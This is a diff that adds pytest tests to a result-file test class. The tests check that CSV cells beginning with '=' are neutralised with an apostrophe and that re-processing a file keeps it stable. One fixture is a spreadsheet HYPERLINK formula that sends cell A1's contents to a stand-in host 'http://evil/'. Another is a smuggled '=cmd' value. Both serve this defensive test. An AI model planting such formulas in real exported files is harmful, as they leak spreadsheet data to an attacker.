@@ -350,6 +350,32 @@ class TestResultFiles:
             ["two\nlines", "r2", "a,b", "2", "succeeded", "9", "", ""],
         ]
 
+    @pytest.mark.parametrize("column", RESULT_COLUMNS)
+    def test_a_foreign_file_with_a_column_of_ours_is_made_safe(
+        self, world: World, column: str
+    ) -> None:
+        link = '=HYPERLINK(""http://evil/?""&A1,""x"")'
+        run = world.carried(f'Name,Ref,=Extra,{column}\n"{link}",r1,"x;=cmd",1\n')
+        header, row = table_of(world, run.run_id, "succeeded")
+        assert header[:3] == ["Name", "Ref", "'=Extra"]
+        assert row[:3] == ["'" + link.replace('""', '"'), "r1", "x;'=cmd"]
+        assert world.account.submissions[-1].records[0]["name"] == link.replace('""', '"')
+
+    def test_a_result_file_that_is_carried_again_stays_the_same(self, world: World) -> None:
+        file: str | bytes = "Name,Ref\n\"x;'=a\",r1\n'=b,r2\n\ufeff=c,r3\n"
+        names = ["x;'=a", "'=b", "\ufeff=c"]
+        for _ in range(2):
+            before = len(world.account.submissions)
+            run = world.carried(file)
+            sent = [r for each in world.account.submissions[before:] for r in each.records]
+            assert [record["name"] for record in sent] == names
+            file = world.objects.get(f"results/{run.run_id}/succeeded.csv")
+            assert [row[0] for row in table_of(world, run.run_id, "succeeded")[1:]] == [
+                "x;''=a",
+                "''=b",
+                "'\ufeff=c",
+            ]
+
     @pytest.mark.parametrize(
         ("head", "encoding", "name", "marked"),
         [
